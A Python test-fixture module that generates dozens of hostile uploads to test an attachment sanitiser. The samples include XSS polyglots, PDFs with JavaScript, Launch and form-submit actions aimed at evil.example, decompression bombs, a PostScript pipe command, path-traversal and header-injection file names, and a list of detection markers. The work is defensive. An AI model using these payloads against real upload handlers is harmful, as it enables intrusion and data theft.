"""Sixty and more files that an attachment must never be: each with its name, what the browser would claim, its bytes.

`SENTENCE` means: refused, with a sentence. `HARMLESS`: taken in, made anew as a plain picture or scan.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

SENTENCE, HARMLESS = "refused with a sentence", "made harmless"
SCRIPT = b"<script>alert(document.cookie)</script>"
# What must be found nowhere in what is kept or served.
MARKS = (
    b"<script",
    b"onload",
    b"/JavaScript",
    b"/JS",
    b"/Launch",
    b"/EmbeddedFile",
    b"/OpenAction",
    b"/URI",
    b"PK\x03\x04",
)
MARKS += (b"Exif", b"http://ns.adobe.com/xap", b"ICC_PROFILE", b"acTL", b"evil", b"%PDF-1.4\n%old", b"MZ\x90")


@dataclass(frozen=True)
class Hostile:
    title: str
    file_name: str
    claimed: str
    content: bytes
    outcome: str
    kind: str = "other"


def picture(kind="JPEG", size=(160, 120), **options) -> bytes:
    output = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(output, kind, **options)
    return output.getvalue()


def located() -> bytes:
    """A photo that says where it was taken, and is turned by its tag."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "evil camera"
    exif.get_ifd(0x8825).update({1: "N", 2: (22.0, 34.0, 12.5), 3: "E", 4: (113.0, 4.0, 33.0)})
    return picture(exif=exif)


def pdf(*objects: bytes, catalog: bytes = b"", pages: int = 1) -> bytes:
    """A PDF 1.4 of blank pages, all of them the same object, with whatever is hung into it."""
    kids = b" ".join([b"3 0 R"] * pages)
    body = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>" % b"".join(objects[:1]),
        b"<< /Length 21 >>\nstream\n0 0 1 rg 9 9 99 99 re\nf\nendstream",
        *objects[1:],
    ]
    text, places = b"%PDF-1.4\n%old\n", []
    for number, content in enumerate(body, start=1):
        places.append(len(text))
        text += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(text)
    text += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    text += b"".join(b"%010d 00000 n \n" % place for place in places)
    return text + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, start)


def encrypted_pdf() -> bytes:
    """The same with a standard security handler whose password nobody knows."""
    lock = b"<< /Filter /Standard /V 1 /R 2 /P -44 /O <%s> /U <%s> >>" % (b"31" * 32, b"32" * 32)
    return pdf(b"", lock).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R /ID [<01> <01>]")


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG of the given chunks, with right checksums."""
    parts = (
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def header(width, height) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)


def package(*names: str, content=b"<x/>") -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return output.getvalue()


def text_in_png() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>evil</x:xmpmeta>")
    notes.add_text("Comment", SCRIPT.decode() + "evil")
    return picture("PNG", pnginfo=notes)


def with_segment(marker: bytes, data: bytes) -> bytes:
    """A JPEG with one more segment behind its start."""
    whole = picture()
    return whole[:2] + b"\xff" + marker + struct.pack(">H", len(data) + 2) + data + whole[2:]


def animated(kind) -> bytes:
    frames = [Image.new("RGB", (60, 40), colour) for colour in ("red", "green", "blue")]
    output = io.BytesIO()
    frames[0].save(output, kind, save_all=True, append_images=frames[1:], duration=90)
    return output.getvalue()


def looping_tiff() -> bytes:
    """A TIFF whose first directory follows itself for ever."""
    whole = bytearray(picture("TIFF"))
    start = struct.unpack_from("<I", whole, 4)[0]
    entries = struct.unpack_from("<H", whole, start)[0]
    struct.pack_into("<I", whole, start + 2 + 12 * entries, start)
    return bytes(whole)


def polyglots() -> list[Hostile]:
    good = picture()
    return [
        Hostile(
            "a JPEG with an archive of classes behind it (GIFAR)",
            "a.jpg",
            "image/jpeg",
            good + package("evil.class"),
            HARMLESS,
        ),
        Hostile(
            "a JPEG with HTML in its comment",
            "a.jpg",
            "image/jpeg",
            picture(comment=b"*/" + SCRIPT),
            HARMLESS,
        ),
        Hostile("a JPEG with HTML behind its end", "a.html", "text/html", good + SCRIPT, HARMLESS),
        Hostile("a JPEG with a PDF behind its end", "a.pdf", "application/pdf", good + pdf(), HARMLESS),
        Hostile(
            "a JPEG with a script in an application segment",
            "a.jpg",
            "text/javascript",
            with_segment(b"\xed", b"=1;/*evil*/" + SCRIPT),
            HARMLESS,
        ),
        Hostile("a PNG with text of XMP and HTML", "a.png", "image/png", text_in_png(), HARMLESS),
        Hostile(
            "a PNG with an archive behind it",
            "a.png.zip",
            "application/zip",
            picture("PNG") + package("evil.exe"),
            HARMLESS,
        ),
        Hostile(
            "a bitmap that begins like a script",
            "a.js",
            "text/javascript",
            picture("BMP") + b"*/=1;" + SCRIPT,
            HARMLESS,
        ),
        Hostile(
            "a PDF that is a page of HTML too",
            "a.html",
            "text/html",
            pdf().replace(b"%old\n", b"%old<html>" + SCRIPT + b"\n"),
            HARMLESS,
        ),
        Hostile(
            "a PDF with an archive behind it",
            "a.pdf",
            "application/pdf",
            pdf() + package("evil.class"),
            HARMLESS,
        ),
        Hostile("HTML in front of a PDF", "a.pdf", "application/pdf", b"<html>" + SCRIPT + pdf(), SENTENCE),
        Hostile(
            "an archive in front of a picture", "a.jpg", "image/jpeg", package("evil.class") + good, SENTENCE
        ),
        Hostile("a GIF that is a script", "a.gif", "image/gif", b"GIF89a/*" + SCRIPT + b"*/=1;", SENTENCE),
        Hostile(
            "a WEBP with a foreign chunk",
            "a.webp",
            "image/webp",
            picture("WEBP") + b"EVIL" + SCRIPT,
            HARMLESS,
        ),
    ]


def documents() -> list[Hostile]:
    """PDF files that do something."""
    action = b"<< /S /JavaScript /JS (app.alert\\('evil'\\)) >>"
    launch = b"<< /S /Launch /F (evil.exe) >>"
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (http://evil.example/) >> >>]"
    file_annotation = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]"
    embedded = (
        b"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
    )
    form = b"/AcroForm << /XFA (evil) /Fields [] >>"
    made = [
        ("opens with JavaScript", pdf(catalog=b"/OpenAction " + action), HARMLESS),
        (
            "has a library of JavaScript",
            pdf(catalog=b"/Names << /JavaScript << /Names [(evil) %s] >> >>" % action),
            HARMLESS,
        ),
        ("starts a program", pdf(catalog=b"/OpenAction " + launch), HARMLESS),
        ("runs a script when the page opens", pdf(b"/AA << /O %s >>" % action), HARMLESS),
        ("links to another host", pdf(link), HARMLESS),
        (
            "carries a program",
            pdf(b"", *embedded, catalog=b"/Names << /EmbeddedFiles << /Names [(evil) 5 0 R] >> >>"),
            HARMLESS,
        ),
        ("shows a program as a pin", pdf(file_annotation, *embedded), HARMLESS),
        ("sends a form", pdf(b"/AA << /C << /S /SubmitForm /F (http://evil.example/) >> >>"), HARMLESS),
        (
            "goes to another file",
            pdf(catalog=b"/OpenAction << /S /GoToR /F (//evil.example/share) >>"),
            HARMLESS,
        ),
        ("has an XFA form", pdf(catalog=form), HARMLESS),
        ("asks for a password", encrypted_pdf(), SENTENCE),
        ("has 100,000 pages", pdf(pages=100_000), SENTENCE),
        ("has 21 pages", pdf(pages=21), SENTENCE),
        ("has none", pdf(pages=0), SENTENCE),
        ("has a page a thousand metres wide", pdf().replace(b"[0 0 200 200]", b"[0 0 9999999 1]"), SENTENCE),
        ("has a page tree that bites its tail", pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), SENTENCE),
        ("is cut off", pdf()[:90], SENTENCE),
        ("is only a beginning", b"%PDF-1.7\n", SENTENCE),
    ]
    return [
        Hostile(f"a PDF that {what}", "扫描.pdf", "application/pdf", content, outcome)
        for what, content, outcome in made
    ]


def pictures() -> list[Hostile]:
    """Pictures that are broken, too large, or say too much."""
    line = b"\0" + bytes(3 * 20_000)
    bomb = png(header(20_000, 20_000), (b"IDAT", zlib.compress(line * 2_000, 9)), (b"IEND", b""))
    lying = png(header(200, 200), (b"IDAT", zlib.compress(bytes(200_000_000), 9)), (b"IEND", b""))
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>evil 22.57N</x:xmpmeta>"
    return [
        Hostile(
            "a photo that says where it was taken", "IMG_1.jpg", "image/jpeg", located(), HARMLESS, "photo"
        ),
        Hostile("a photo with XMP", "IMG_2.jpg", "image/jpeg", with_segment(b"\xe1", xmp), HARMLESS, "photo"),
        Hostile(
            "a photo with a broken Exif",
            "IMG_3.jpg",
            "image/jpeg",
            with_segment(b"\xe1", b"Exif\0\0MM\0*\xff\xff\xff\xff"),
            HARMLESS,
            "photo",
        ),
        Hostile(
            "a picture with a colour profile",
            "a.png",
            "image/png",
            picture("PNG", icc_profile=b"evil" * 99),
            HARMLESS,
        ),
        Hostile("a PNG that unpacks to 1.2 GB", "a.png", "image/png", bomb, SENTENCE),
        Hostile("a PNG with more data than it says", "a.png", "image/png", lying, HARMLESS),
        Hostile(
            "a PNG of 2,147,483,647 pixels a side",
            "a.png",
            "image/png",
            png(header(2**31 - 1, 2**31 - 1)),
            SENTENCE,
        ),
        Hostile("a PNG of no size", "a.png", "image/png", png(header(0, 0), (b"IEND", b"")), SENTENCE),
        Hostile("a JPEG of 65,500 pixels a side", "a.jpg", "image/jpeg", huge_jpeg(), SENTENCE),
        Hostile("a JPEG cut in half", "a.jpg", "image/jpeg", picture(size=(900, 900))[:3_000], SENTENCE),
        Hostile("a PNG cut in half", "a.png", "image/png", picture("PNG", (900, 900))[:900], SENTENCE),
        Hostile("a TIFF that never ends", "a.tif", "image/tiff", looping_tiff(), HARMLESS),
        Hostile("an animated PNG", "a.png", "image/png", animated("PNG"), HARMLESS),
        Hostile("an animated WEBP", "a.webp", "image/webp", animated("WEBP"), HARMLESS),
        Hostile("an animated GIF", "a.gif", "image/gif", animated("GIF"), SENTENCE),
        Hostile("a JPEG that is only a beginning", "a.jpg", "image/jpeg", b"\xff\xd8\xff\xe0", SENTENCE),
        Hostile("a portrait that is a PDF", "a.jpg", "image/jpeg", pdf(), SENTENCE, "photo"),
    ]


def huge_jpeg() -> bytes:
    whole = bytearray(picture())
    place = whole.index(b"\xff\xc0")
    struct.pack_into(">HH", whole, place + 5, 65_500, 65_500)
    return bytes(whole)


def strangers() -> list[Hostile]:
    """What is no picture at all, whatever it calls itself; and pictures with a name of their own."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
    return [
        Hostile("an SVG with a script", "a.svg", "image/svg+xml", svg, SENTENCE),
        Hostile(
            "an SVG that claims to be a PNG", "a.png", "image/png", b"<?xml version='1.0'?>" + svg, SENTENCE
        ),
        Hostile("HTML that claims to be a PNG", "a.png", "image/png", b"<!doctype html>" + SCRIPT, SENTENCE),
        Hostile(
            "an archive bomb that claims to be a JPEG",
            "a.jpg",
            "image/jpeg",
            package("a", content=bytes(40_000_000)),
            SENTENCE,
        ),
        Hostile("a workbook with macros", "表.xlsm", "image/jpeg", package("xl/vbaProject.bin"), SENTENCE),
        Hostile("a program", "照片.exe", "image/jpeg", b"MZ\x90\0" + bytes(400), SENTENCE),
        Hostile("nothing", "a.jpg", "image/jpeg", b"", SENTENCE),
        Hostile("a HEIC photo", "IMG_4.HEIC", "image/heic", b"\0\0\0\x18ftypheic" + bytes(99), SENTENCE),
        Hostile(
            "a PostScript program", "a.jpg", "image/jpeg", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file", SENTENCE
        ),
        Hostile(
            "a name that climbs up",
            "../../../etc/cron.d/evil.jpg",
            "image/jpeg",
            picture(size=(161, 120)),
            HARMLESS,
        ),
        Hostile("a name with a null byte", "a.php\0.jpg", "image/jpeg", picture(size=(162, 120)), HARMLESS),
        Hostile(
            "a name that reads backwards",
            "照片\u202egpj.exe",
            "image/jpeg",
            picture(size=(163, 120)),
            HARMLESS,
        ),
        Hostile(
            "a name with a line break and a header",
            'a.jpg"\r\nX-Evil: 1',
            "image/jpeg",
            picture(size=(164, 120)),
            HARMLESS,
        ),
    ]


def hostile_files() -> list[Hostile]:
    """All of them; one makes the largest file that is still received."""
    large = b"\xff\xd8\xff" + bytes(10 * 2**20)
    too_large = Hostile("a file of more than 10 MB", "a.jpg", "image/jpeg", large, SENTENCE)
    return [*polyglots(), *documents(), *pictures(), *strangers(), too_large]
